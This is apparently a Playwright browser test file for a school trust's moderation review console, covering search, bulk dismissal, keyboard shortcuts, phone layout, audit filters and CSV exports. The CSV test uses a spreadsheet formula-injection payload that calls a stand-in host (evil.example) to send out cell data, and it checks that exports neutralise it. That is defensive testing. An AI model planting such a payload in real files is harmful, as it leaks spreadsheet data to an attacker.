"""What a good review tool gives its reviewer, in real headless Chromium (issue 15).

Search and paging with the view in the URL, the next item after a decision, bulk
dismissal, keyboard shortcuts (and the same console without JavaScript), standard reasons
from policy.toml, a phone-sized screen, the audit page's filters, and CSV exports.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import select

from classifiers.policy import Policy
from review_queue import accounts, audit, queue
from review_queue.db import Database
from review_queue.models import AuditEntry, Decision, ReviewItem, User
from review_queue.queue import PAGE_SIZE, record_judgement
from review_queue.store import ensure_school, ingest_posts
from tests.browser.conftest import shot
from tests.browser.test_console_browser import sign_in
from tests.review_queue.conftest import PASSWORD, Cast, ItemFactory, PostIn

pytestmark = pytest.mark.browser

ADMIN = "ada.admin@trust.test"
PHONE = {"width": 390, "height": 844}


def signed_in(page: Any, base: str, email: str) -> None:
    sign_in(page, base, email)
    page.wait_for_url(lambda url: "/signin" not in url)


def listed(page: Any) -> list[int]:
    """The item ids in the queue table, in order."""
    return [int(r.get_attribute("data-item")) for r in page.locator("table.queue tbody tr").all()]


def query(page: Any) -> dict[str, list[str]]:
    return parse_qs(urlsplit(page.url).query, keep_blank_values=True)


def item_id(page: Any) -> int:
    return int(urlsplit(page.url).path.rsplit("/", 1)[1])


def add_admin(db: Database) -> None:
    with db.session_scope() as s:
        accounts.add_user(s, ADMIN, "admin", PASSWORD)


def second_school_item(db: Database, policy: Policy, text: str, n: int) -> tuple[int, int]:
    """An item at another school of the trust: (school id, item id)."""
    with db.session_scope() as s:
        school = ensure_school(s, "larkrise", "Larkrise Academy")
        post = PostIn(
            "x", f"lark-{n}", f"https://x.example.test/lark/{n}", "@lark_parent", text, datetime.now(UTC)
        )
        (row,) = ingest_posts(s, school.id, None, [post])
        evidence = [{"category": "abuse", "start": 0, "end": 5, "why": "test span"}]
        judgement = {"flags": ["abuse"], "severity": "medium", "evidence": evidence, "model_version": "t"}
        item = record_judgement(s, row, judgement, policy)
        assert item is not None
        return school.id, item.id


# ---- 1. search, filters in the URL, paging; schools for a trust-wide account ----------


def test_a_dsl_searches_text_author_and_category_and_pages_keep_the_filters(
    page: Any, live_server: str, cast: Cast, make_item: ItemFactory
) -> None:
    carter = [
        make_item(text=f"Mrs Carter again, post {n}", author=f"@parent{n}") for n in range(PAGE_SIZE + 5)
    ]
    dad = make_item(text="Gate code is 4471", flags=("security",), author="@dad_of_three")
    photo = make_item(text="Look at this class photo", flags=("pupil_image",), author="@snapper")
    signed_in(page, live_server, cast.dsl.email)

    page.goto(f"{live_server}/queue")
    page.fill("input[name=q]", "carter")
    page.click("text=Filter")
    page.wait_for_url(lambda url: "q=carter" in url)
    assert f"{PAGE_SIZE + 5} items in this view, page 1 of 2" in page.inner_text(".summary")
    first = listed(page)
    assert len(first) == PAGE_SIZE and set(first) <= set(carter)
    shot(page, "20-queue-search")
    page.click("a[rel=next]")
    page.wait_for_url(lambda url: "page=2" in url)
    assert query(page)["q"] == ["carter"]
    second = listed(page)
    # A stable order: the second page holds exactly the rest, none seen twice.
    assert len(second) == 5 and set(first) | set(second) == set(carter) and not set(first) & set(second)
    page.click("a[rel=prev]")
    assert listed(page) == first

    # The author, the category's name, and a filter kept beside the search.
    page.goto(f"{live_server}/queue?q=%40dad_of_three")
    assert listed(page) == [dad]
    page.goto(f"{live_server}/queue?q=pupil+image")
    assert listed(page) == [photo]
    page.goto(f"{live_server}/queue?q=gate&category=abuse")
    assert listed(page) == []
    # An item opened from a search carries the search with it.
    page.goto(f"{live_server}/queue?q=photo")
    page.click(f"a.open[href^='/items/{photo}']")
    assert query(page)["q"] == ["photo"]
    page.click("a.back-to-queue")
    assert listed(page) == [photo]


def test_a_trust_admin_sees_which_school_each_item_is_from_and_filters_queue_and_audit_by_school(
    page: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory, policy: Policy
) -> None:
    ours = make_item(text="Hollybrook post about Mrs Carter")
    _lark, theirs = second_school_item(db, policy, "Larkrise post about Mr Hall", 1)
    add_admin(db)
    signed_in(page, live_server, ADMIN)
    page.goto(f"{live_server}/queue")
    assert "School" in page.inner_text("table.queue thead")
    rows = {
        int(r.get_attribute("data-item")): r.inner_text() for r in page.locator("table.queue tbody tr").all()
    }
    assert "Hollybrook Primary School" in rows[ours] and "Larkrise Academy" in rows[theirs]
    page.select_option("select[name=school]", "larkrise")
    page.click("text=Filter")
    page.wait_for_url(lambda url: "school=larkrise" in url)
    assert listed(page) == [theirs]
    shot(page, "21-queue-trust-school-filter")
    page.click(f"a.open[href^='/items/{theirs}']")
    assert query(page)["school"] == ["larkrise"]

    page.goto(f"{live_server}/audit?kind=all")
    assert "School" in page.inner_text("table.audit thead")
    page.select_option("select[name=school]", "larkrise")
    page.click("text=Filter")
    page.wait_for_url(lambda url: "school=larkrise" in url)
    schools = {c.inner_text() for c in page.locator("table.audit td[data-label=School]").all()}
    assert schools == {"Larkrise Academy"}
    # A school's own DSL is given no school filter at all.
    page.context.clear_cookies()
    signed_in(page, live_server, cast.dsl.email)
    page.goto(f"{live_server}/queue")
    assert page.locator("select[name=school]").count() == 0
    assert page.goto(f"{live_server}/queue?school=larkrise").status == 400


# ---- 2. after a decision, the next waiting item in the same view ----------------------


def test_after_a_decision_the_next_waiting_item_of_the_same_view_opens_passing_over_claimed_ones(
    page: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory
) -> None:
    a, b, c, d = (make_item(text=f"abuse post {n}") for n in "abcd")
    make_item(text="a threat, more severe, outside the view", flags=("threat",))
    with db.session_scope() as s:
        queue.claim(s, s.get_one(ReviewItem, c), cast.reviewer.id)  # c: the reviewer is on it
    signed_in(page, live_server, cast.dsl.email)
    page.goto(f"{live_server}/queue?category=abuse")
    page.click(f"a.open[href^='/items/{a}?']")
    page.check("input[name=action][value=dismiss]")
    page.select_option("select[name=standard_reason]", label="Not about this school")
    page.click("text=Record decision")
    page.wait_for_url(lambda url: url.endswith(f"/items/{b}?category=abuse"))
    assert f"Item #{a} dismissed." in page.inner_text(".notice")
    shot(page, "22-next-item-after-decision")

    page.check("input[name=action][value=confirm]")
    page.fill("textarea[name=reason]", "Abusive about staff.")
    page.click("text=Record decision")
    page.wait_for_url(
        lambda url: url.endswith(f"/items/{d}?category=abuse")
    )  # c is being worked by the reviewer
    assert "draft a platform report" in page.inner_text(".notice")

    page.check("input[name=action][value=dismiss]")
    page.fill("textarea[name=reason]", "Fine in context.")
    page.click("text=Record decision")
    page.wait_for_url(lambda url: url.endswith("/queue?category=abuse"))
    assert "Nothing else is waiting in this view" in page.inner_text(".notice")
    with db.session_scope() as s:
        status = dict(s.execute(select(ReviewItem.id, ReviewItem.status)).all())
    assert [status[i] for i in (a, b, c, d)] == ["dismissed", "confirmed", "open", "dismissed"]


# ---- 3. bulk dismissal --------------------------------------------------------------


def test_a_bulk_dismissal_decides_and_audits_each_item_and_leaves_alone_one_claimed_meanwhile(
    page: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory
) -> None:
    same = [
        make_item(text="Everyone email Ofsted!", flags=("incitement",), author=f"@p{n}") for n in range(3)
    ]
    other = make_item(text="Another, unselected")
    signed_in(page, live_server, cast.dsl.email)
    page.goto(f"{live_server}/queue?category=incitement")
    for i in same:
        page.check(f"input[name=item_ids][value='{i}']")
    # While the DSL chooses, the reviewer takes one of them.
    with db.session_scope() as s:
        queue.claim(s, s.get_one(ReviewItem, same[2]), cast.reviewer.id)
    page.select_option("form.bulk select[name=standard_reason]", label="Duplicate of an item already decided")
    page.fill("form.bulk input[name=reason]", "the same message shared three times")
    shot(page, "23-bulk-selection")
    page.click("text=Dismiss selected")
    page.wait_for_url(lambda url: url.endswith("/queue?category=incitement"))
    notice = page.inner_text(".notice")
    assert f"Dismissed 2 items: #{same[0]}, #{same[1]}." in notice
    assert f"#{same[2]} (someone else is working on it)" in notice
    assert listed(page) == [same[2]]
    shot(page, "24-bulk-done")
    with db.session_scope() as s:
        decisions = list(s.scalars(select(Decision).order_by(Decision.id)))
        entries = list(s.scalars(select(AuditEntry).where(AuditEntry.action == "decide")))
        status = dict(s.execute(select(ReviewItem.id, ReviewItem.status)).all())
    assert [(d.item_id, d.action, d.categories) for d in decisions] == [
        (same[0], "dismiss", ["incitement"]),
        (same[1], "dismiss", ["incitement"]),
    ]
    assert {d.reason for d in decisions} == {
        "Duplicate of an item already decided — the same message shared three times"
    }
    assert sorted((int(e.object_id), e.detail["bulk"]) for e in entries) == [(same[0], True), (same[1], True)]
    assert status[same[2]] == "open" and status[other] == "open"


# ---- 4. keyboard shortcuts, a script only from the app, and no JavaScript at all -------


def test_keyboard_shortcuts_decide_with_a_standard_reason_from_a_script_the_app_serves(
    page: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory, policy: Policy
) -> None:
    first, second = make_item(text="I've emailed the head to complain."), make_item(text="second")
    signed_in(page, live_server, cast.reviewer.email)
    response = page.goto(f"{live_server}/queue")
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "j" in page.inner_text(".keys") and "select it" in page.inner_text(".keys")
    page.keyboard.press("j")
    page.keyboard.press("o")
    page.wait_for_url(f"**/items/{first}")
    # Every script on the page is a file from the app itself: none inline.
    scripts = page.evaluate("() => [...document.scripts].map(s => [s.getAttribute('src'), s.text.trim()])")
    assert scripts == [["/static/keys.js", ""]]
    assert "Ctrl" in page.inner_text(".keys")

    page.keyboard.press("t")
    page.wait_for_url(f"**/items/{first}")
    page.locator("text=You are working on this item.").wait_for()
    page.keyboard.press("d")
    page.keyboard.press("2")
    criticism = policy.reasons.dismiss[1]
    assert page.input_value("select[name=standard_reason]") == criticism
    # Only the dismissal's reasons are offered once "dismiss" is chosen.
    assert page.locator("select[name=standard_reason] optgroup:not([disabled])").count() == 1
    page.keyboard.press("r")
    page.keyboard.type("Civil, through the proper channel.")
    shot(page, "25-keyboard-decision")
    page.keyboard.press("Control+Enter")
    page.wait_for_url(f"**/items/{second}")
    with db.session_scope() as s:
        decision = s.scalar(select(Decision).where(Decision.item_id == first))
    assert decision is not None and decision.action == "dismiss"
    assert decision.reason == f"{criticism} — Civil, through the proper channel."
    page.keyboard.press("q")
    page.wait_for_url(f"{live_server}/queue")


def test_without_javascript_the_queue_decisions_and_bulk_work_the_same(
    browser: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory, policy: Policy
) -> None:
    first, second, third = (make_item(text=f"post {n}") for n in range(3))
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    signed_in(page, live_server, cast.dsl.email)
    page.goto(f"{live_server}/queue?q=post")
    page.click(f"a.open[href^='/items/{first}?']")
    page.check("input[name=action][value=confirm]")
    page.select_option("select[name=standard_reason]", policy.reasons.confirm[0])
    page.click("text=Record decision")
    page.wait_for_url(lambda url: url.endswith(f"/items/{second}?q=post"))
    # A standard reason of another action is refused, not stored under the wrong decision.
    page.check("input[name=action][value=confirm]")
    page.select_option("select[name=standard_reason]", policy.reasons.dismiss[0])
    page.click("text=Record decision")
    assert "not one the policy offers for this action" in page.content()
    page.goto(f"{live_server}/queue?q=post")
    page.check(f"input[name=item_ids][value='{second}']")
    page.check(f"input[name=item_ids][value='{third}']")
    page.click("text=Dismiss selected")
    page.wait_for_url(lambda url: url.endswith("/queue?q=post"))
    assert "Dismissed 2 items" in page.inner_text(".notice")
    with db.session_scope() as s:
        reasons = dict(s.execute(select(Decision.item_id, Decision.reason)).all())
    assert reasons == {
        first: policy.reasons.confirm[0],
        second: policy.reasons.dismiss[0],
        third: policy.reasons.dismiss[0],
    }
    context.close()


# ---- 6. a phone --------------------------------------------------------------------


def test_no_page_scrolls_sideways_on_a_phone(
    browser: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory, policy: Policy
) -> None:
    long_word = "Hollybrook" * 12
    item = make_item(
        text=f"Threat at the gates {long_word} tomorrow " * 4,
        flags=("threat", "abuse"),
        author="@a_very_long_handle_for_a_parent_account_that_goes_on",
        url=f"https://x.example.test/{long_word}/status/1234567890",
    )
    make_item(text="another", flags=("security",))
    second_school_item(db, policy, "Larkrise", 1)
    add_admin(db)
    context = browser.new_context(viewport=PHONE, locale="en-GB", is_mobile=True, has_touch=True)
    page = context.new_page()

    def width(path: str, name: str) -> int:
        page.goto(f"{live_server}{path}")
        shot(page, f"26-phone-{name}")
        return int(page.evaluate("() => document.documentElement.scrollWidth"))

    widths = {"signin": width("/signin", "signin")}
    signed_in(page, live_server, cast.dsl.email)
    widths |= {
        "queue": width("/queue", "queue"),
        "item": width(f"/items/{item}", "item"),
        "audit": width("/audit?kind=all", "audit"),
    }
    page.context.clear_cookies()
    signed_in(page, live_server, ADMIN)
    widths |= {
        "trust queue": width("/queue", "trust-queue"),
        "trust audit": width("/audit?kind=all", "trust-audit"),
    }
    context.close()
    assert {name: w for name, w in widths.items() if w > PHONE["width"]} == {}


# ---- 7. the audit page ------------------------------------------------------------


def test_the_audit_page_shows_decisions_not_page_views_and_filters_and_pages(
    page: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory, school_id: int
) -> None:
    items = [make_item(text=f"post {n}") for n in range(3)]
    with db.session_scope() as s:
        dsl, reviewer = s.get_one(User, cast.dsl.id), s.get_one(User, cast.reviewer.id)

        def entry(user: User, action: str, item: int) -> None:
            audit.record(s, user=user, action=action, object_type="item", object_id=item, school_id=school_id)

        for _ in range(150):  # a busy week of page views
            entry(reviewer, "view.item", items[0])
        for i in items:
            entry(dsl, "decide", i)
        entry(reviewer, "assign", items[1])
        entry(dsl, "report.draft", items[2])
    signed_in(page, live_server, cast.dsl.email)
    page.goto(f"{live_server}/audit")
    actions = [c.inner_text() for c in page.locator("table.audit td[data-label=What]").all()]
    assert actions.count("decide") == 3 and "view.item" not in actions
    shot(page, "27-audit-default")

    page.select_option("select[name=person]", cast.reviewer.email)
    page.click("text=Filter")
    page.wait_for_url(lambda url: "person=" in url)
    assert [c.inner_text() for c in page.locator("table.audit td[data-label=What]").all()] == ["assign"]

    page.goto(f"{live_server}/audit?kind=views")
    views = page.locator("table.audit tbody tr")
    assert views.count() == audit.PAGE_SIZE
    newest = [int(c.inner_text()) for c in page.locator("table.audit td[data-label=Entry]").all()]
    page.click("a[rel=next]")
    page.wait_for_url(lambda url: "before=" in url)
    assert query(page)["kind"] == ["views"]
    older = [int(c.inner_text()) for c in page.locator("table.audit td[data-label=Entry]").all()]
    assert len(older) >= 50 and max(older) < min(newest)
    page.click("a[rel=prev]")
    assert [int(c.inner_text()) for c in page.locator("table.audit td[data-label=Entry]").all()] == newest

    today = datetime.now(UTC).date()
    page.goto(f"{live_server}/audit?action=report.draft&until={today - timedelta(days=1)}")
    assert page.locator("table.audit tbody tr").count() == 0
    page.goto(f"{live_server}/audit?action=report.draft&since={today}&until={today}")
    assert page.locator("table.audit tbody tr").count() == 1
    assert page.locator("p.ok").count() == 1  # and the chain still holds


# ---- 8. CSV exports -------------------------------------------------------------


def download(page: Any, link: str) -> list[list[str]]:
    with page.expect_download() as info:
        page.click(link)
    raw = info.value.path().read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a byte-order mark, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_exports_neutralise_formulas_are_audited_and_only_for_the_roles_allowed(
    page: Any, live_server: str, db: Database, cast: Cast, make_item: ItemFactory
) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    item = make_item(text=hostile, author="@parent")
    plain = make_item(text="+44 7700 900123 call me", author="-dash")
    for prefix, n in (("@", 1), ("\t", 2), ("\r", 3)):
        make_item(text=f"{prefix}SUM(1+1)", author=f"@p{n}")
    signed_in(page, live_server, cast.dsl.email)
    page.goto(f"{live_server}/queue")
    rows = download(page, "text=Download this view (CSV)")
    header, body = rows[0], rows[1:]
    text = header.index("Post text")
    by_id = {int(r[0]): r for r in body}
    assert by_id[item][text] == "'" + hostile
    assert (
        by_id[plain][text] == "'+44 7700 900123 call me" and by_id[plain][header.index("Account")] == "'-dash"
    )
    assert by_id[item][header.index("Account")] == "'@parent"
    assert sorted(r[text][:2] for r in body if "SUM" in r[text]) == ["'\t", "'\r", "'@"]

    page.goto(f"{live_server}/items/{plain}")
    page.check("input[name=action][value=dismiss]")
    page.fill("textarea[name=reason]", "=1+1 is not a reason")
    page.click("text=Record and stay here")
    page.goto(f"{live_server}/audit")
    decisions = download(page, "text=decisions (CSV)")
    assert decisions[1][decisions[0].index("Reason")] == "'=1+1 is not a reason"
    with db.session_scope() as s:
        entries = s.scalars(select(AuditEntry).order_by(AuditEntry.id))
        exported = [(e.action, e.detail["rows"]) for e in entries if e.action.startswith("export.")]
    assert exported == [("export.queue_csv", 5), ("export.decisions_csv", 1)]

    # A reviewer decides but does not take the queue home: no link, and refused.
    page.context.clear_cookies()
    signed_in(page, live_server, cast.reviewer.email)
    page.goto(f"{live_server}/queue")
    assert page.locator("text=Download this view (CSV)").count() == 0
    assert page.goto(f"{live_server}/queue.csv").status == 403
    assert page.goto(f"{live_server}/decisions.csv").status == 403
